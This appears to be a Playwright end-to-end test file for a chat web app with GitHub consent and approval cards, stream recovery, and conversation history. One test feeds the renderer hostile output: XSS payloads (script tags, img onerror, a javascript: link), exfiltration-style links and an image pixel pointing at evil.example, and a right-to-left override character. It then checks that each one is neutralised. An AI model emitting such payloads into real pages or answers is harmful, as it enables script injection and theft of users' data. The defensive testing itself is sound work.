// The chat page, sentence by sentence (M7, M10, M16): what is lost on the way comes back, what waits is
// shown, and nothing that the model says does anything. Its cards are in cards.mjs.
//
//   node page.mjs PATH-OF-LOCAL-BINARY PATH-OF-CHROMIUM

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { RUN, accessible, answerWith, answered, asked, connect, say, signIn } from "./chat.mjs";
import { step, withWorld } from "./world.mjs";

const [, , local, executablePath] = process.argv;
const problems = [];

/** A service that begins to answer, and says no more. */
async function halfAnswer(events) {
  const server = createServer((_, response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    for (const event of events) response.write(`data: ${JSON.stringify(event)}\n\n`);
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${server.address().port}/`, close: () => server.closeAllConnections() ?? server.close() };
}

await withWorld({ local, executablePath, options: ["--port", "0"] }, async ({ browser, application }) => {
  const alice = await signIn(browser, "Alice Example", application, problems);
  await accessible(alice, "the empty page");
  await alice.getByLabel("Your message").fill("half a sent");
  await alice.reload();
  assert.equal(await alice.getByLabel("Your message").inputValue(), "half a sent");
  step("what is typed is there after a reload");

  await alice.getByLabel("Your message").fill("");
  await alice.getByRole("button", { name: "Which repositories do I have, private ones too?" }).click();
  await alice.getByRole("heading", { name: "Connect GitHub to go on" }).waitFor();
  const address = alice.url();
  assert.match(new URL(address).pathname, /^\/c\/[0-9a-f]{32}$/);
  await accessible(alice, "a consent");
  const card = await alice.locator(".card").innerText();
  for (const words of ["list your repositories", "read:user", "Amazon Bedrock AgentCore Identity", "Alice Example", "You leave for", "good for 9:"]) {
    assert.ok(card.includes(words) || (await alice.locator(".card").getByText(words).waitFor()) === undefined, words);
  }
  assert.equal(await alice.locator(".card .main").count(), 1, "one primary button");
  step("a suggestion is asked, and the card says what for, with which scope, who keeps it and how long it is good");

  await alice.reload();
  await asked(alice, "Which repositories do I have, private ones too?");
  await alice.getByRole("heading", { name: "Connect GitHub to go on" }).waitFor();
  const second = await alice.context().newPage();
  await second.goto(address);
  await asked(second, "Which repositories do I have, private ones too?");
  await second.getByRole("heading", { name: "Connect GitHub to go on" }).waitFor();
  step("a reload and a second tab show the question and the card that waits");

  await connect(second);
  await answered(second, "octo-alice/garden");
  await answered(alice, "octo-alice/garden");
  await second.close();
  await alice.locator(".steps .done").getByText("list your repositories").waitFor();
  step("after the consent both tabs show the whole conversation, and each step how it ended");

  await alice.evaluate(() => document.activeElement.blur());
  await alice.locator("#message").focus();
  await alice.keyboard.type("Please create an issue in octo-alice/garden: Sow the beans");
  await alice.keyboard.press("Enter");
  await alice.getByRole("heading", { name: "Create this issue?" }).waitFor();
  await accessible(alice, "an approval");
  const pressed = await alice.evaluate(() => document.activeElement.textContent);
  assert.equal(pressed, "Create this issue?", "the focus is on the card");
  for (let tabs = 0; tabs < 3 && (await alice.evaluate(() => document.activeElement.textContent)) !== "Create issue"; tabs++) {
    await alice.keyboard.press("Tab");
  }
  await alice.keyboard.press("Enter");
  await answered(alice, "I created issue 1");
  assert.equal(await alice.evaluate(() => document.activeElement.id), "message", "one goes on at the message");
  await alice.getByText(/you approved it, as octo-alice, \d/).waitFor();
  await alice.reload();
  await answered(alice, "I created issue 1");
  await alice.getByText(/you approved it, as octo-alice, \d/).waitFor();
  assert.equal(await alice.locator(".prose").getByText("I created issue").count(), 1);
  step("an action is approved by the keyboard alone, and stays in the log with account and time");

  await alice.route(RUN, async (route) => {
    const whole = await (await route.fetch()).text();
    await route.fulfill({ contentType: "text/event-stream", body: whole.slice(0, whole.length / 2) });
  }, { times: 1 });
  await say(alice, "Hello!");
  await answered(alice, "I am the scripted model");
  await alice.getByRole("button", { name: "Send" }).waitFor();
  assert.equal(await alice.locator(".prose").getByText("I am the scripted model").count(), 1);
  await alice.reload();
  await answered(alice, "I am the scripted model");
  assert.equal(await alice.locator(".user").getByText("Hello!").count(), 1, "asked once");
  step("an answer that was lost half-way is fetched, and not asked again");

  const problem = { type: "about:blank", title: "Busy", status: 503, detail: "The model is busy.", code: "throttled", requestId: "request-7" };
  await alice.route(RUN, (route) => route.fulfill({ status: 503, json: problem }), { times: 1 });
  await say(alice, "Who am I at GitHub?");
  await alice.locator(".problem").getByText("The model is busy. (request request-7)").waitFor();
  await alice.reload();
  await alice.locator(".problem").getByText("This was not answered.").waitFor();
  await alice.getByRole("button", { name: "Try again" }).click();
  await answered(alice, "You are octo-alice");
  assert.equal(await alice.locator(".user").getByText("Who am I at GitHub?").count(), 1);
  step("a message that failed is tried again at its bubble, even after a reload");

  await answerWith(alice, [
    { type: "RUN_STARTED", threadId: "t", runId: "r" },
    { type: "TEXT_MESSAGE_START", messageId: "s", role: "assistant" },
    { type: "TEXT_MESSAGE_CONTENT", messageId: "s", delta: "What was said." },
    { type: "TEXT_MESSAGE_END", messageId: "s" },
    { type: "RUN_ERROR", code: "not_saved", message: "This turn could not be saved." },
  ]);
  await say(alice, "Say something.");
  await alice.locator(".problem").getByText("This turn could not be saved.").waitFor();
  await answered(alice, "What was said.");
  step("a turn that could not be saved shows what was said");

  const elsewhere = await alice.context().newPage();
  await elsewhere.goto(application);
  await elsewhere.getByRole("button", { name: "Sign out" }).click();
  await elsewhere.getByText("You are signed out in this browser").waitFor();
  await elsewhere.close();
  await say(alice, "Are you there?");
  await alice.getByRole("button", { name: "Sign in again" }).click();
  await alice.getByRole("button", { name: "Sign in as Alice Example" }).click();
  await asked(alice, "Who am I at GitHub?");
  assert.equal(alice.url(), address, "one comes back to the conversation");
  const lost = alice.locator(".turn", { hasText: "Are you there?" });
  await lost.getByRole("button", { name: "Try again" }).click();
  await lost.locator(".prose").getByText("I am the scripted model").waitFor();
  step("after a new sign-in the conversation is there, and what was not sent is tried again");

  let release;
  const held = new Promise((resolve) => (release = resolve));
  await alice.route(RUN, async (route) => {
    await held;
    await route.continue();
  }, { times: 1 });
  await say(alice, "Hello again!");
  await alice.getByRole("button", { name: "Stop" }).waitFor();
  await alice.getByRole("link", { name: "New conversation" }).click();
  await alice.getByRole("heading", { name: /What shall Countersign/ }).waitFor();
  await say(alice, "Which repositories do I have, private ones too?");
  await answered(alice, "octo-alice/diary");
  release();
  await alice.goBack();
  await asked(alice, "Hello again!");
  await answered(alice, "I am the scripted model");
  await alice.goForward();
  await answered(alice, "octo-alice/diary");
  assert.equal(await alice.getByText("I am the scripted model").count(), 0);
  step("an answer that comes late lands in its own conversation");

  await alice.clock.install();
  await alice.route(RUN, () => {}, { times: 1 });
  await say(alice, "Anybody?");
  await alice.getByRole("button", { name: "Stop" }).waitFor();
  await alice.clock.fastForward(11_000);
  await alice.getByText("nothing came for ten seconds").waitFor();
  await alice.getByRole("button", { name: "Stop" }).click();
  await alice.getByText("You stopped this.").waitFor();
  await alice.getByRole("button", { name: "Ask again" }).waitFor();
  step("a silence is told, and one can stop and ask again");

  const begun = await halfAnswer([
    { type: "RUN_STARTED", threadId: "t", runId: "r" },
    { type: "TEXT_MESSAGE_START", messageId: "half", role: "assistant" },
    { type: "TEXT_MESSAGE_CONTENT", messageId: "half", delta: "The first half" },
  ]);
  await alice.route(RUN, (route) => route.continue({ url: begun.url }), { times: 1 });
  await say(alice, "Tell me something long.");
  await answered(alice, "The first");
  await alice.getByRole("button", { name: "Stop" }).click();
  await alice.getByText("You stopped this.").last().waitFor();
  await answered(alice, "The first half");
  begun.close();
  step("text is shown as it comes, and stays when one stops it");

  const id = "m";
  const words = [
    "[click](javascript:alert(1)) [bank](https://evil.example/steal?q=1) ![pixel](https://evil.example/p.png?secret)\n\n",
    "<img src=x onerror=alert(1)> <script>alert(1)</script>\n\n* one\n* **two**\n\n`code` and \u202Ereversed",
  ];
  await answerWith(alice, [
    { type: "RUN_STARTED", threadId: "t", runId: "r" },
    { type: "TEXT_MESSAGE_START", messageId: id, role: "assistant" },
    ...words.map((delta) => ({ type: "TEXT_MESSAGE_CONTENT", messageId: id, delta })),
    { type: "TEXT_MESSAGE_END", messageId: id },
    { type: "RUN_FINISHED", threadId: "t", runId: "r", outcome: { type: "success" } },
  ]);
  await say(alice, "Say something bad.");
  const prose = alice.locator(".prose").last();
  await prose.locator("strong").getByText("two").waitFor();
  assert.equal(await prose.locator("img, script, iframe, [onerror]").count(), 0);
  assert.equal(await prose.getByText("click").getAttribute("href"), null);
  const told = await prose.innerText();
  for (const target of ["(https://evil.example/steal?q=1)", "image: pixel (https://evil.example/p.png?secret)", "(javascript:alert(1))", "⟨U+202E⟩"]) {
    assert.ok(told.includes(target), `${target}: ${told}`);
  }
  assert.match(await prose.getByText("bank").getAttribute("rel"), /noopener/);
  step("the model's words are Markdown: links show where they lead, images are links, HTML is text");

  const history = alice.getByRole("navigation", { name: "Conversations" });
  const entries = history.getByRole("link", { name: "Which repositories do I have, private ones too?" });
  await alice.reload();
  await history.getByRole("heading", { name: "Today" }).waitFor();
  await entries.nth(1).waitFor();
  assert.equal(await entries.count(), 2, "each is called by its first words");
  assert.equal(await history.locator("[aria-current=page]").count(), 1);
  const other = entries.and(history.locator(":not([aria-current])"));
  await other.click();
  await answered(alice, "octo-alice/diary");
  const remove = history.locator("li.now").getByRole("button");
  await remove.click();
  assert.equal(await remove.innerText(), "Delete it?");
  await remove.click();
  await alice.getByRole("heading", { name: /What shall Countersign/ }).waitFor();
  await alice.reload();
  await entries.waitFor();
  assert.equal(await entries.count(), 1);
  step("conversations are listed by day and by their first words, opened, and deleted after a second click");

  for (let number = 0; number < 25; number++) {
    const data = { sessionId: `one-of-many-${number}`, message: `Conversation ${number}` };
    await alice.context().request.post(new URL("/invocations", application).href, { data });
  }
  await alice.reload();
  await history.getByRole("link", { name: "Conversation 24" }).waitFor();
  assert.equal(await entries.count(), 0);
  await history.getByRole("button", { name: "Show more" }).click();
  await entries.waitFor();
  assert.equal(await history.getByRole("button", { name: "Show more" }).count(), 0);
  step("older conversations are shown when one asks for more");

  await alice.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await entries.click();
  await answered(alice, "octo-alice/garden");
  await alice.getByRole("button", { name: "Copy" }).first().click();
  await alice.getByRole("button", { name: "Copied" }).waitFor();
  assert.match(await alice.evaluate(() => navigator.clipboard.readText()), /octo-alice\/garden/);
  step("an answer is copied as it was written");

  for (let number = 0; number < 7; number++) {
    const data = { sessionId: "long", message: `Number ${number}. ${"long ".repeat(6_000)}` };
    await alice.context().request.post(new URL("/invocations", application).href, { data });
  }
  await alice.goto(new URL("/c/long", application).href);
  await asked(alice, "Number 6.");
  assert.equal(await alice.locator(".user", { hasText: "Number 0." }).count(), 0);
  while (!(await alice.locator(".user", { hasText: "Number 0." }).count())) {
    const count = await alice.locator(".turn").count();
    await alice.getByRole("button", { name: "Show earlier messages" }).click();
    await alice.waitForFunction((before) => document.querySelectorAll(".turn").length > before, count);
  }
  const numbers = await alice.locator(".user").allInnerTexts();
  assert.deepEqual(numbers.map((it) => it.match(/Number (\d)/)[1]), ["0", "1", "2", "3", "4", "5", "6"]);
  assert.equal(await alice.locator(".turn .prose").count(), 7, "each with its answer");
  step("what is too long to be told at once is shown page by page, up to the first message");

  await alice.setViewportSize({ width: 390, height: 844 });
  await alice.getByRole("button", { name: "Conversations" }).click();
  await alice.getByRole("link", { name: "New conversation" }).waitFor();
  await accessible(alice, "the menu on a phone");
  await alice.getByRole("link", { name: "New conversation" }).click();
  await alice.getByRole("heading", { name: /What shall Countersign/ }).waitFor();
  const wide = await alice.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  assert.ok(wide <= 0, `${wide} pixels too wide`);
  step("it fits a phone, where what is beside the conversation is a menu");

  const plain = await browser.newContext({ javaScriptEnabled: false, storageState: await alice.context().storageState() });
  const page = await plain.newPage();
  await page.goto(application);
  assert.match(await page.locator("noscript").innerText(), /needs JavaScript, and does nothing without it/);
  assert.equal(await page.getByRole("button", { name: "Send" }).isVisible(), false);
  step("without JavaScript the page says so, and shows nothing that does not work");

  assert.deepEqual(problems, []);
  step("no page complains, and none asks for anything elsewhere");
});
